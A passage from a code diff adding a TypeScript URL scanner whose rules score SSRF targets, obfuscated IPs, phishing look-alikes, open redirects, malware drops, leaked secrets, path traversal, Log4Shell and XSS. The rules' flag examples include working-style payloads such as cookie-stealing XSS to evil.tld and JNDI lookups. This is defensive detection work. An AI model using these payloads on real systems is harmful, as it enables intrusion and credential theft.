+          notes.push('cluster control plane');
+        }
+        if (score <= 0) return null;
+        const where = u.ip !== null ? `${u.ip.canonical} (${cls})` : u.host;
+        return { detail: `${where}${notes.length ? `, ${notes.join(', ')}` : ''}`, score };
+      },
+      examples: {
+        flag: ['http://10.0.0.5/', 'http://192.168.1.20:2375/containers/json', 'http://localhost:6379/', 'http://127.0.0.1:8080/actuator/env', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', 'http://[::ffff:10.0.0.1]/admin'],
+        pass: ['http://localhost:3000/', 'http://127.0.0.1:5173/src/main.ts', 'http://localhost:8080/admin/users', 'http://0.0.0.0:8000/docs', 'https://example.com/10.0.0.5'],
+      },
+    },
+    {
+      id: 'U08',
+      name: 'IP address written in an obfuscated form',
+      primitive: 'EXFILTRATION',
+      score: 5,
+      detect: (ctx) => {
+        const ip = ctx.u.ip;
+        if (ip === null) return null;
+        const internal = isInternalClass(ip.cls);
+        if (ctx.u.host.endsWith('rbndr.us') || ctx.u.host.endsWith('.1u.ms')) return { detail: `DNS-rebinding host ${ctx.u.host}`, score: 8 };
+        if (ip.format === 'dotted' || ip.format === 'ipv6') return null;
+        if (ip.format === 'dns-embedded') {
+          if (ctx.u.host.endsWith('lvh.me') || ctx.u.host.endsWith('localtest.me') || ctx.u.host.endsWith('.localhost') || ctx.u.host.endsWith('vcap.me')) return null;
+          if (!internal) return null;
+          return { detail: `${ctx.u.host} resolves to internal ${ip.canonical}`, score: ip.cls === 'loopback' ? 4 : 6 };
+        }
+        return { detail: `${ctx.u.rawHost} is ${ip.canonical} in ${ip.format} notation${internal ? ' (internal address: filter bypass)' : ''}`, score: internal ? 7 : 5 };
+      },
+      examples: {
+        flag: ['http://2130706433/', 'http://0x7f.0x0.0x0.0x1/', 'http://0177.0.0.1/', 'http://127.1/', 'http://[::ffff:127.0.0.1]/', 'http://3232235777/admin', 'http://10.0.0.1.nip.io/'],
+        pass: ['http://127.0.0.1:8080/', 'http://app.lvh.me:3000/', 'http://93.184.216.34/', 'https://example.com/2130706433'],
+      },
+    },
+    {
+      id: 'U09',
+      name: 'Raw public IP address instead of a domain name',
+      primitive: 'MANIPULATION',
+      score: 3,
+      detect: (ctx) => {
+        const ip = ctx.u.ip;
+        if (ip === null || ip.cls !== 'public' && ip.cls !== 'reserved') return null;
+        if (WELL_KNOWN_IPS.has(ip.canonical)) return null;
+        if (ctx.u.scheme === 'file') return null;
+        const where = `${ip.canonical}${ctx.u.port !== null ? `:${ctx.u.port}` : ''}`;
+        // malware drops: a bare IP on a random high port serving a file (http://x.x.x.x:35422/Mozi.m)
+        const seg = lastSegment(ctx.u.path);
+        const oddPort = ctx.u.port !== null && !DEV_PORTS.has(ctx.u.port);
+        if (oddPort && (seg.includes('.') || seg.length === 1 || ctx.u.path.toLowerCase().includes('/bins'))) return { detail: `${where} serving ${seg.slice(0, 40) || 'a file'} from an unusual port`, score: 5 };
+        return where;
+      },
+      examples: {
+        flag: ['http://45.133.1.20/login.php', 'http://185.220.101.4:8080/bins/x86', 'https://[2001:db8::1]/'],
+        pass: ['https://example.com/', 'http://192.168.1.1/', 'https://dns.google/resolve?name=example.com'],
+      },
+    },
+    {
+      id: 'U10',
+      name: 'Fake host in the userinfo part (@ trick)',
+      primitive: 'MANIPULATION',
+      score: 8,
+      detect: (ctx) => {
+        const ui = ctx.u.userinfo;
+        if (ui === null || ui === '') return null;
+        const user = percentDecode(ui, 2).toLowerCase();
+        const name = user.includes(':') ? user.slice(0, user.indexOf(':')) : user;
+        const hostlike = name.includes('.') && TLD_LIKE.test(name.slice(name.lastIndexOf('.') + 1) + '/');
+        let brand: string | null = null;
+        for (const n of BRAND_NAMES.keys()) if (n.length >= 4 && name.includes(n)) brand = n;
+        if (hostlike || name.includes('/') || name.includes('\u2215') || name.includes('\u2044')) return `"${name.slice(0, 60)}@" shown before the real host ${ctx.u.host}`;
+        if (brand !== null && ctx.owner === null) return `brand "${brand}" in the userinfo before the real host ${ctx.u.host}`;
+        if (ui.length >= 40 && !user.includes(':')) return { detail: `${ui.length}-character userinfo pushing the real host ${ctx.u.host} out of view`, score: 6 };
+        return null;
+      },
+      examples: {
+        flag: ['https://google.com@evil.tld/', 'https://www.paypal.com%40secure-login.tld/signin', 'http://accounts.google.com:443@198.51.100.7/', 'https://paypal@phish.example/'],
+        pass: ['https://x-access-token:${GITHUB_TOKEN}@github.com/org/repo.git', 'ftp://anonymous:guest@ftp.example.org/pub/', 'https://user@example.com/', 'mailto:someone@paypal.com'],
+      },
+    },
+    {
+      id: 'U11',
+      name: 'Parser-confusing characters in the host part',
+      primitive: 'MANIPULATION',
+      score: 7,
+      detect: (ctx) => {
+        if (ctx.u.oddAuthority !== null) return ctx.u.oddAuthority;
+        const head = ctx.raw.slice(0, 512);
+        if (hasBidiControl(head)) return 'bidirectional-override character reorders what the reader sees';
+        return null;
+      },
+      examples: {
+        flag: ['https://github.com\u2215kubernetes\u2215kubernetes\u2215archive\u2215refs\u2215tags\u2215@v1271.zip', 'https://evil.tld\\@google.com/', 'https://google.com@bing.com@evil.tld/', 'https://example.com/\u202Efdp.exe'],
+        pass: ['https://github.com/kubernetes/kubernetes/archive/refs/tags/v1.27.1.zip', 'https://user@example.com/', 'https://example.com/a\\b'],
+      },
+    },
+    {
+      id: 'U12',
+      name: 'Typosquatted or look-alike brand domain',
+      primitive: 'MANIPULATION',
+      score: 7,
+      detect: (ctx) => {
+        const b = ctx.brand;
+        if (b === null || (b.how !== 'typo' && b.how !== 'glyph')) return null;
+        return { detail: b.detail, score: b.how === 'glyph' ? 8 : 7 };
+      },
+      examples: {
+        flag: ['https://paypa1.com/signin', 'http://arnazon.com/', 'https://micros0ft-support.com/', 'https://gooogle.com/', 'https://www.faceb00k.com/login', 'https://linkedln.com/in/someone', 'https://coinbsae.com/'],
+        pass: ['https://www.paypal.com/signin', 'https://finance.yahoo.com/', 'https://stream.example.com/', 'https://www.google.co.uk/', 'https://lodger.com/', 'https://apply.example.org/'],
+      },
+    },
+    {
+      id: 'U13',
+      name: 'Internationalised (punycode) host imitating Latin letters',
+      primitive: 'MANIPULATION',
+      score: 7,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.unicodeHost === u.host && isPlainAscii(u.rawHost)) return null;
+        if (ctx.brand !== null && ctx.brand.how === 'homograph') return { detail: ctx.brand.detail, score: 9 };
+        const labels = u.unicodeHost.split('.');
+        for (const l of labels) {
+          const scripts = new Set<string>();
+          let confusable = 0;
+          let letters = 0;
+          for (const ch of l) {
+            const s = scriptOf(ch);
+            if (s === 'common' || s === 'other' && ch.charCodeAt(0) < 0x3000 && false) continue;
+            letters++;
+            scripts.add(s);
+            if (s !== 'latin' && foldUnicodeLabel(ch) !== ch && foldUnicodeLabel(ch).charCodeAt(0) < 128) confusable++;
+          }
+          if (scripts.has('latin') && (scripts.has('cyrillic') || scripts.has('greek') || scripts.has('armenian'))) return `mixed-script label "${l}" in ${u.host}`;
+          if (letters > 0 && confusable === letters && letters >= 3) return { detail: `"${l}" is made of letters that look Latin (${u.host})`, score: 6 };
+        }
+        return null;
+      },
+      examples: {
+        flag: ['https://xn--80ak6aa92e.com/', 'https://аpple.com/', 'https://xn--pple-43d.com/account', 'https://www.xn--pypal-4ve.com/', 'https://раураl.com/'],
+        pass: ['https://xn--mnchen-3ya.de/', 'https://яндекс.рф/', 'https://bücher.de/', 'https://例え.jp/', 'https://www.paypal.com/'],
+      },
+    },
+    {
+      id: 'U14',
+      name: 'Brand name on a domain the brand does not own',
+      primitive: 'MANIPULATION',
+      score: 6,
+      detect: (ctx) => {
+        const b = ctx.brand;
+        if (b === null || b.how === 'typo' || b.how === 'glyph' || b.how === 'homograph') return null;
+        if (b.how === 'domain-in-subdomain') return { detail: b.detail, score: 7 + (ctx.untrusted ? 1 : 0) };
+        const lure = ctx.hostLure !== null;
+        let score = lure ? 6 : b.brand === ctx.u.label && RISKY_TLDS.has(ctx.u.suffix) ? 5 : 2;
+        if (ctx.untrusted) score += 1;
+        return { detail: `${b.detail}${lure ? ` with "${ctx.hostLure}"` : ''}`, score };
+      },
+      examples: {
+        flag: ['https://paypal.com.secure-login.xyz/', 'https://paypal-verify.com/', 'https://appleid-support-unlock.com/', 'https://www.paypal.com-account.info/signin', 'https://dhl-parcel-redelivery.com/track', 'https://secure-login-microsoft365.web.app/'],
+        pass: ['https://www.paypal.com/us/signin', 'https://accounts.google.com/ServiceLogin', 'https://apple.zendesk.com/hc', 'https://google.github.io/styleguide/', 'https://steam-cleaning.example.com/', 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize'],
+      },
+    },
+    {
+      id: 'U15',
+      name: 'Throwaway top-level domain',
+      primitive: 'MANIPULATION',
+      score: 2,
+      detect: (ctx) => {
+        const s = ctx.u.suffix;
+        if (!RISKY_TLDS.has(s) || ctx.owner !== null || ctx.u.ip !== null) return null;
+        if (FILE_LIKE_TLDS.has(s)) return { detail: `.${s} domain ${ctx.u.domain} reads like a file name`, score: 3 };
+        return `.${s} domain ${ctx.u.domain}`;
+      },
+      examples: {
+        flag: ['https://secure-login.xyz/', 'https://setup.zip/', 'http://free-prizes.tk/claim'],
+        pass: ['https://example.com/archive.zip', 'https://github.com/org/repo/releases/download/v1/app.zip', 'https://www.gov.uk/'],
+      },
+    },
+    {
+      id: 'U16',
+      name: 'Open redirect to another site',
+      primitive: 'MANIPULATION',
+      score: 4,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.params.length === 0) return null;
+        const oauth = u.params.some(([k]) => k === 'client_id' || k === 'response_type' || k === 'samlrequest' || k === 'relaystate');
+        const share = ctx.tail.includes('share') || ctx.tail.includes('intent/') || ctx.tail.includes('submit') || ctx.tail.includes('/url?') && false;
+        for (const [k, v] of u.params) {
+          if (!REDIRECT_KEYS.has(k)) continue;
+          if (oauth && (k === 'redirect_uri' || k === 'callback' || k === 'return_to' || k === 'returnto')) continue;
+          if (share && (k === 'u' || k === 'url' || k === 'link' || k === 'text')) continue;
+          const target = v.trim();
+          const tl = target.toLowerCase();
+          if (tl.startsWith('javascript:') || tl.startsWith('data:text/html') || tl.startsWith('vbscript:')) return { detail: `${k}= carries a ${tl.slice(0, tl.indexOf(':'))}: URL`, score: 8 };
+          if (tl.length >= 16 && tl.length < 2048 && !tl.includes('.') && !tl.includes('/')) {
+            // base64-wrapped destinations hide the target from filters
+            const dec = decodeBase64Runs(target, 1)[0];
+            if (dec !== undefined && (dec.startsWith('http://') || dec.startsWith('https://'))) {
+              const t = parseUrl(dec);
+              if (t.host !== '' && t.site !== u.site) return { detail: `${k}= hides a base64-encoded redirect to ${t.host}`, score: 6 };
+            }
+          }
+          if (!(tl.startsWith('http://') || tl.startsWith('https://') || tl.startsWith('//') || tl.startsWith('\\\\') || tl.startsWith('/\\') || tl.startsWith('\\/'))) continue;
+          const t = parseUrl(target.replace(LEADING_SLASHES, '//'));
+          if (t.host === '' || t.site === u.site || t.domain === u.domain || t.host === u.host) continue;
+          let score = 4;
+          const notes: string[] = [];
+          if (t.ip !== null) {
+            score += 2;
+            notes.push('an IP address');
+          }
+          if (RISKY_TLDS.has(t.suffix)) {
+            score += 2;
+            notes.push(`a .${t.suffix} domain`);
+          }
+          if (ownerOf(t.domain, t.label, t.suffix, t.platform) === null && (SUBSTRING_NAMES.some((n) => t.host.includes(n)) || TYPO_BRANDS.some((n) => typoOf(t.label, n) !== null))) {
+            score += 3;
+            notes.push('a brand look-alike');
+          }
+          if (ctx.owner !== null) notes.push(`via trusted ${u.domain}`);
+          return { detail: `${k}= sends the visitor to ${t.host}${notes.length ? ` (${notes.join(', ')})` : ''}`, score };
+        }
+        return null;
+      },
+      examples: {
+        flag: ['https://trusted.example.com/logout?redirect=https://evil.tld/login', 'https://www.google.com/amp/s/x?continue=https://phish.xyz/', 'https://shop.example.com/go?url=//198.51.100.9/payload', 'https://example.com/login?next=javascript:alert(1)'],
+        pass: ['https://accounts.google.com/ServiceLogin?continue=https://mail.google.com/mail/', 'https://github.com/login/oauth/authorize?client_id=abc&redirect_uri=https://myapp.example.com/callback', 'https://www.facebook.com/sharer/sharer.php?u=https://example.com/post', 'https://example.com/login?next=/dashboard'],
+      },
+    },
+    {
+      id: 'U17',
+      name: 'Executable or script download',
+      primitive: 'ESCALATION',
+      score: 3,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (!u.scheme.startsWith('http') && u.scheme !== 'ftp' && u.scheme !== '') return null;
+        const seg = lastSegment(u.path);
+        let ext: string | undefined = EXEC_EXT.exec(seg)?.[1];
+        if (ext === undefined) {
+          for (const [k, v] of u.params) {
+            if (k === 'file' || k === 'filename' || k === 'name' || k === 'download' || k === 'dl' || k === 'f' || k === 'attachment' || k === 'response-content-disposition') {
+              ext = EXEC_EXT.exec(v.toLowerCase())?.[1];
+              if (ext !== undefined) break;
+            }
+          }
+        }
+        if (ext === undefined || ext === 'js' || ext === 'mjs' || ext === 'com' || ext === 'url' || ext === 'application' || ext === 'bin' || ext === 'img') return null;
+        const trusted = !CHAT_CDN.has(u.host) && (ctx.owner !== null || SOFTWARE_SITES.has(u.site) || SOFTWARE_SITES.has(u.domain) || SOFTWARE_SITES.has(u.host));
+        if (trusted && ctx.brand === null) return null;
+        const rare = ['scr', 'pif', 'cpl', 'hta', 'vbs', 'vbe', 'jse', 'wsf', 'wsh', 'lnk', 'reg', 'scf', 'chm', 'library-ms', 'searchconnector-ms', 'appinstaller', 'xll', 'one'].includes(ext);
+        const botnet = ext.startsWith('arm') || ext === 'mips' || ext === 'mpsl' || ext.startsWith('x86') || ext.endsWith('86') || ext === 'ppc' || ext === 'm68k' || ext === 'sh4' || ext === 'spc' || ext === 'arc';
+        if (botnet && !u.path.toLowerCase().includes('/bins/') && u.ip === null) return null;
+        const script = ext === 'sh' || ext === 'deb' || ext === 'rpm' || ext === 'run' || ext === 'elf';
+        let score = rare || botnet ? 5 : script ? 1 : ['docm', 'xlsm', 'pptm', 'xlam', 'iso', 'vhd', 'vhdx'].includes(ext) ? 4 : 3;
+        const risk = hostRiskBonus(ctx);
+        score += risk.bonus;
+        if (score < 3 && risk.bonus === 0 && !rare) return null;
+        return { detail: `.${ext} file ${seg.slice(0, 60)} from ${u.host}${risk.why ? ` (${risk.why})` : ''}`, score };
+      },
+      examples: {
+        flag: ['http://45.133.1.20/update.exe', 'https://cdn.discordapp.com/attachments/1/2/Installer.exe', 'https://files-share.top/doc/invoice.hta', 'https://example-tools.com/setup.msi', 'https://evil.xyz/install.sh'],
+        pass: ['https://github.com/cli/cli/releases/download/v2.40.0/gh_2.40.0_windows_amd64.msi', 'https://nodejs.org/dist/v20.11.0/node-v20.11.0-x64.msi', 'https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh', 'https://example.com/app.js', 'https://example.com/docs/install.sh.md'],
+      },
+    },
+    {
+      id: 'U18',
+      name: 'File name disguised with a double extension',
+      primitive: 'ESCALATION',
+      score: 8,
+      detect: (ctx) => {
+        const seg = lastSegment(ctx.u.path).replace(BIDI_CHARS, '');
+        const m = DOC_EXT.exec(seg);
+        if (m !== null) return `${seg.slice(0, 60)} poses as a document`;
+        if (ctx.raw.includes('\u202e') && EXEC_EXT.test(seg)) return 'right-to-left override reverses the file extension';
+        return null;
+      },
+      examples: {
+        flag: ['https://example.com/files/invoice.pdf.exe', 'http://198.51.100.3/Scan_2024.docx.scr', 'https://share.example.net/photo.jpg .exe', 'https://example.com/Invoice_\u202Efdp.exe'],
+        pass: ['https://example.com/files/invoice.pdf', 'https://example.com/report.final.pdf', 'https://example.com/archive.tar.gz', 'https://example.com/setup.exe.sig'],
+      },
+    },
+    {
+      id: 'U19',
+      name: 'Credential-harvesting page on an untrusted host',
+      primitive: 'MANIPULATION',
+      score: 4,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (ctx.owner !== null || u.host === '' || CONTENT_SITES.has(u.site) || CONTENT_SITES.has(u.host)) return null;
+        if (u.ip !== null && isInternalClass(u.ip.cls)) return null;
+        const lure = ctx.pathLure ?? (ctx.hostLure !== null && ctx.brand !== null ? ctx.hostLure : null);
+        if (lure === null) return null;
+        const wallet = WALLET_DRAIN.test(lure);
+        const notes: string[] = [];
+        let score = wallet ? 5 : 0;
+        if (ctx.brand !== null || ctx.pathBrand !== null) {
+          score += 4;
+          notes.push(`impersonating ${ctx.brand?.brand ?? ctx.pathBrand}`);
+        }
+        if (u.ip !== null) {
+          score += 3;
+          notes.push('on a bare IP');
+        }
+        if (RISKY_TLDS.has(u.suffix)) {
+          score += 3;
+          notes.push(`on .${u.suffix}`);
+        }
+        if (FREE_HOSTING.has(u.suffix) || FREE_HOSTING.has(u.domain) || TUNNEL_HOSTS.has(u.suffix) || TUNNEL_HOSTS.has(u.site) || DROP_HOSTS.has(u.site)) {
+          score += 2;
+          notes.push('on free hosting');
+        }
+        if (u.subLabels.length >= 4) score += 1;
+        if (ctx.hostLure !== null && ctx.pathLure !== null && STRONG_HOST_LURES.has(ctx.hostLure)) score += 1;
+        if (u.scheme === 'http' && score > 0) score += 1;
+        if (ctx.untrusted && score > 0) score += 1;
+        if (score < 3) return null;
+        return { detail: `"${lure}" page on ${u.host}${notes.length ? ` ${notes.join(', ')}` : ''}`, score };
+      },
+      examples: {
+        flag: ['http://203.0.113.5/paypal/login.php', 'https://secure-account-update.xyz/signin', 'https://paypal-verify.com/webscr?cmd=_login-run', 'https://sites.example.web.app/microsoft/login.html', 'https://wallet-fix.pages.dev/connect-wallet'],
+        pass: ['https://www.paypal.com/signin', 'https://example-shop.com/login', 'https://stackoverflow.com/questions/1/how-to-login-to-paypal-api', 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure', 'http://localhost:3000/login'],
+      },
+    },
+    {
+      id: 'U20',
+      name: 'Link shortener or IP logger hiding the destination',
+      primitive: 'MANIPULATION',
+      score: 3,
+      detect: (ctx) => {
+        const d = ctx.u.domain;
+        if (IP_LOGGERS.has(d)) return { detail: `${d} logs the visitor's IP address`, score: 5 };
+        if (!SHORTENERS.has(d) && !SHORTENERS.has(ctx.u.host)) return null;
+        if (ctx.u.path.length <= 1) return null;
+        return `${ctx.u.host}${ctx.u.path.slice(0, 30)} hides its destination`;
+      },
+      examples: {
+        flag: ['https://bit.ly/3xYzAbC', 'https://tinyurl.com/yc4k8s2w', 'http://t.co/AbCdEf123', 'https://grabify.link/ABC123'],
+        pass: ['https://bitly.com/', 'https://www.tinyurl.com/', 'https://example.com/bit.ly/x', 'https://bitbucket.org/team/repo'],
+      },
+    },
+    {
+      id: 'U21',
+      name: 'Out-of-band callback or request-catcher host',
+      primitive: 'EXFILTRATION',
+      score: 5,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (OOB_HOSTS.has(u.site) || OOB_HOSTS.has(u.domain)) return { detail: `${u.host} (interaction server used to confirm and exfiltrate)`, score: 7 };
+        if (CATCHER_HOSTS.has(u.site) || CATCHER_HOSTS.has(u.domain)) {
+          const carries = u.params.some(([, v]) => v.length >= 24) || u.path.length > 40;
+          return { detail: `${u.host} (request catcher)${carries ? ' with data attached' : ''}`, score: carries ? 6 : 5 };
+        }
+        return null;
+      },
+      examples: {
+        flag: ['https://webhook.site/3f1c2a9e-1111-2222-3333-444455556666?d=c2VjcmV0', 'http://abc123.oastify.com/', 'https://x7.burpcollaborator.net/', 'http://xyz.dnslog.cn/'],
+        pass: ['https://docs.webhook.site.example.com/', 'https://github.com/projectdiscovery/interactsh', 'https://example.com/webhook/site'],
+      },
+    },
+    {
+      id: 'U22',
+      name: 'Anonymous paste, file-drop or tunnel host',
+      primitive: 'ESCALATION',
+      score: 4,
+      detect: (ctx) => {
+        const u = ctx.u;
+        const p = u.path.toLowerCase();
+        if (DROP_HOSTS.has(u.site) || DROP_HOSTS.has(u.domain) || DROP_HOSTS.has(u.host)) return u.path.length > 1 ? `${u.host} anonymous file drop` : null;
+        if (PASTE_HOSTS.has(u.site) || PASTE_HOSTS.has(u.host)) {
+          const raw = p.startsWith('/raw') || p.includes('/raw/') || p.endsWith('/raw') || u.host.startsWith('raw.') || p.startsWith('/r/') || p.startsWith('/dl/') || p.includes('/plain/') || p.startsWith('/download');
+          if (u.site === 'toptal.com' && !p.startsWith('/developers/hastebin')) return null;
+          return raw ? `raw paste ${u.host}${u.path.slice(0, 30)} (served as a script payload)` : null;
+        }
+        if (TUNNEL_HOSTS.has(u.suffix) || TUNNEL_HOSTS.has(u.site) || TUNNEL_HOSTS.has(u.domain)) return `${u.host} tunnels to someone's machine`;
+        if (DYNAMIC_DNS.has(u.suffix) || DYNAMIC_DNS.has(u.site)) return { detail: `${u.host} is a dynamic-DNS name (common for malware control servers)`, score: 3 };
+        if (CHAT_CDN.has(u.host) && p.includes('/attachments/')) return { detail: `chat attachment on ${u.host}`, score: 3 };
+        return null;
+      },
+      examples: {
+        flag: ['https://pastebin.com/raw/Xy12AbCd', 'https://transfer.sh/abc/payload.bin', 'https://random-words-42.trycloudflare.com/', 'https://a1b2-203-0-113-5.ngrok-free.app/hook', 'https://0x0.st/HxYz.sh'],
+        pass: ['https://pastebin.com/Xy12AbCd', 'https://ngrok.com/docs', 'https://www.cloudflare.com/products/tunnel/', 'https://github.com/transfer-sh'],
+      },
+    },
+    {
+      id: 'U23',
+      name: 'Secret or credential sent inside the URL',
+      primitive: 'EXFILTRATION',
+      score: 6,
+      detect: (ctx) => {
+        const t = ctx.u.query + ' ' + ctx.u.path + ' ' + ctx.u.fragment;
+        const m = SECRET_SHAPE.exec(t.length > 16384 ? t.slice(0, 16384) : t);
+        const bonus = OOB_HOSTS.has(ctx.u.site) || CATCHER_HOSTS.has(ctx.u.site) || TUNNEL_HOSTS.has(ctx.u.suffix) || (ctx.u.ip !== null && ctx.u.ip.cls === 'public') ? 2 : 0;
+        if (m !== null) return { detail: `${secretKind(m[0])} in the URL sent to ${ctx.u.host || 'the target'}`, score: 6 + bonus };
+        if (ctx.u.query.length >= 24) {
+          for (const d of decodeBase64Runs(ctx.u.query.slice(0, 8192), 4)) {
+            const dl = d.toLowerCase();
+            if (SECRET_SHAPE.test(d) || dl.includes('private key') || dl.includes('aws_secret') || dl.includes('password=') || dl.includes('root:x:0:0') || dl.includes('api_key=') || dl.includes('secret_key')) {
+              return { detail: `base64 blob in the query decodes to credentials (sent to ${ctx.u.host})`, score: 7 + bonus };
+            }
+          }
+        }
+        for (const [k, v] of ctx.owner !== null ? [] : ctx.u.params) {
+          if ((k === 'password' || k === 'passwd' || k === 'pwd' || k === 'pass' || k === 'secret' || k === 'client_secret' || k === 'aws_secret_access_key' || k === 'private_key') && v.length >= 4 && !v.startsWith('$') && !v.startsWith('{') && !v.startsWith('<')) {
+            return { detail: `${k}= value in the URL${ctx.u.scheme === 'http' ? ' over plain http' : ''}`, score: (ctx.u.scheme === 'http' ? 4 : 3) + bonus };
+          }
+        }
+        return null;
+      },
+      examples: {
+        flag: ['https://collect.example.net/c?k=AKIAIOSFODNN7EXAMPLE', 'https://webhook.site/abc?t=ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789', 'http://example.com/login?user=bob&password=hunter22', 'https://x.example/?d=QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPXdKYWxyWFV0bkZFTUk='],
+        pass: ['https://example.com/reset?token=8f14e45fceea167a5a36dedd4bea2543', 'https://example.com/login?user=bob', 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/about-authentication-to-github'],
+      },
+    },
+    {
+      id: 'U24',
+      name: 'Needless encoding hiding the URL',
+      primitive: 'MANIPULATION',
+      score: 4,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.hostPercent && u.host !== '') return `percent-encoded host name (${u.host})`;
+        if (u.encodedAlnum >= 6) return { detail: `${u.encodedAlnum >= 64 ? '64+' : u.encodedAlnum} plain letters or digits percent-encoded in the path`, score: u.encodedAlnum >= 16 ? 5 : 4 };
+        if (ctx.raw.includes('&#') && u.scheme !== '' && u.hadScheme && ctx.raw.slice(0, 16).includes('&#')) return 'HTML character references in the scheme';
+        return null;
+      },
+      examples: {
+        flag: ['http://%77%77%77.%70%61%79%70%61%6c.com.evil.tld/', 'https://example.net/%6C%6F%67%69%6E/%70%61%79%70%61%6C.php', 'https://cdn.example.tld/%61%70%70%6C%65%69%64/%73%69%67%6E%69%6E'],
+        pass: ['https://example.com/search?q=hello%20world%2Fagain', 'https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC', 'https://example.com/a%2Fb%3Fc%3Dd'],
+      },
+    },
+    {
+      id: 'U25',
+      name: 'Excessively deep or long host name',
+      primitive: 'MANIPULATION',
+      score: 2,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.ip !== null || ctx.owner !== null || u.host === '') return null;
+        if (u.subLabels.length >= 4) return `${u.subLabels.length} subdomain levels in ${u.host.slice(0, 80)}`;
+        if (u.host.length >= 70) return `${u.host.length}-character host name`;
+        return null;
+      },
+      examples: {
+        flag: ['https://login.secure.account.paypal.verify.example.tld/', 'https://www.apple.com.id.verify.session.evil.com/'],
+        pass: ['https://s3.us-west-2.amazonaws.com/bucket/key', 'https://a.b.example.com/', 'https://docs.example.co.uk/'],
+      },
+    },
+    {
+      id: 'U26',
+      name: 'Web URL on an unusual port',
+      primitive: 'MANIPULATION',
+      score: 2,
+      detect: (ctx) => {
+        const u = ctx.u;
+        if (u.port === null || u.ip !== null || ctx.owner !== null || u.host === '' || ctx.internalName !== null || !u.host.includes('.')) return null;
+        if (!(u.scheme === 'http' || u.scheme === 'https' || u.scheme === '')) return null;
+        if (DEV_PORTS.has(u.port)) return null;
+        return `${u.host}:${u.port}`;
+      },
+      examples: {
+        flag: ['http://paypal-secure.example.tld:2087/login', 'https://update-center.example:4443/'],
+        pass: ['https://example.com:443/', 'http://localhost:5173/', 'https://example.com:8443/api'],
+      },
+    },
+    {
+      id: 'U27',
+      name: 'Path traversal or local-file-inclusion payload',
+      primitive: 'ESCALATION',
+      score: 5,
+      keywords: ['..', 'etc/passwd', 'win.ini', 'php://', 'proc/self', 'file:/', '%2e', 'file=/', '=/etc', '.ssh/'],
+      detect: (ctx) => {
+        if (ctx.u.scheme === 'file' || CONTENT_SITES.has(ctx.u.site)) return null;
+        const t = ctx.tail.replace(BACKSLASH, '/');
+        let ups = 0;
+        for (let i = t.indexOf('../'); i !== -1 && ups < 32; i = t.indexOf('../', i + 3)) ups++;
+        const sensitive = SENSITIVE_FILE.exec(t);
+        const wrapper = t.includes('php://') || t.includes('=file:/') || t.includes('expect://') || t.includes('zip://') || t.includes('phar://');
+        if (ups >= 1 && sensitive !== null) return { detail: `traversal to ${trimSlash(sensitive[0]).slice(0, 40)}`, score: 8 };
+        if (wrapper) return { detail: 'stream-wrapper inclusion (php://, file://) in the request', score: 7 };
+        if (sensitive !== null && ctx.u.params.some(([, v]) => v.startsWith('/') || v.startsWith('c:') || v.startsWith('~'))) return { detail: `absolute path to ${trimSlash(sensitive[0]).slice(0, 40)} in a parameter`, score: 7 };
+        if (ups >= 3) return `${ups} "../" segments`;
+        return null;
+      },
+      examples: {
+        flag: ['https://shop.example.com/download?file=../../../../etc/passwd', 'http://10.0.0.8/page.php?inc=php://filter/convert.base64-encode/resource=config', 'https://app.example.com/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows/win.ini', 'https://example.com/view?path=/etc/shadow'],
+        pass: ['https://example.com/docs/../guide/index.html', 'https://en.wikipedia.org/wiki/Passwd', 'https://man7.org/linux/man-pages/man5/passwd.5.html'],
+      },
+    },
+    {
+      id: 'U28',
+      name: 'JNDI lookup (Log4Shell) payload in the URL',
+      primitive: 'ESCALATION',
+      score: 9,
+      keywords: ['${', 'jndi'],
+      detect: (ctx) => {
+        const i = ctx.lower.indexOf('${');
+        if (i === -1) return null;
+        const window = ctx.lower.slice(i, i + 400).replace(JNDI_WRAP, '').replace(DOLLAR_BRACE, '');
+        if (window.includes('jndi:')) return '${jndi:…} lookup that makes a Log4j server load remote code';
+        return null;
+      },
+      examples: {
+        flag: ['https://example.com/?x=${jndi:ldap://evil.tld/a}', 'https://example.com/search?q=${${lower:j}ndi:${lower:l}dap://x.oast.fun/z}', 'https://example.com/?u=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.1%2Fx%7D'],
+        pass: ['https://logging.apache.org/log4j/2.x/security.html', 'https://example.com/?tpl=${name}', 'https://github.com/search?q=jndi+ldap'],
+      },
+    },
+    {
+      id: 'U29',
+      name: 'Cross-site scripting payload in the URL',
+      primitive: 'ESCALATION',
+      score: 7,
+      keywords: ['<', 'javascript:', 'onerror', 'onload', 'alert(', 'document.cookie', 'onmouseover', 'prompt(', 'onfocus', 'ontoggle', 'srcdoc'],
+      detect: (ctx) => {
+        if (ctx.u.scheme === 'javascript' || ctx.u.scheme === 'data' || CONTENT_SITES.has(ctx.u.site)) return null;
+        const t = ctx.tail.length > 16384 ? ctx.tail.slice(0, 16384) : ctx.tail;
+        const m = XSS_SHAPE.exec(t);
+        return m === null ? null : `script injection "${m[0].slice(0, 40)}"`;
+      },
+      examples: {
+        flag: ['https://example.com/search?q=<script>alert(1)</script>', 'https://shop.example.com/?name="><img src=x onerror=alert(document.domain)>', 'https://example.com/p#<svg/onload=fetch(`//evil.tld?c=${document.cookie}`)>', 'https://example.com/?redirect=javascript:alert(1)'],
+        pass: ['https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script', 'https://www.google.com/search?q=<script>+tag+tutorial', 'https://example.com/a?x=1<2'],
+      },
+    },
+    {
+      id: 'U30',
+      name: 'SQL, command or template injection in the URL',
+      primitive: 'ESCALATION',
+      score: 6,
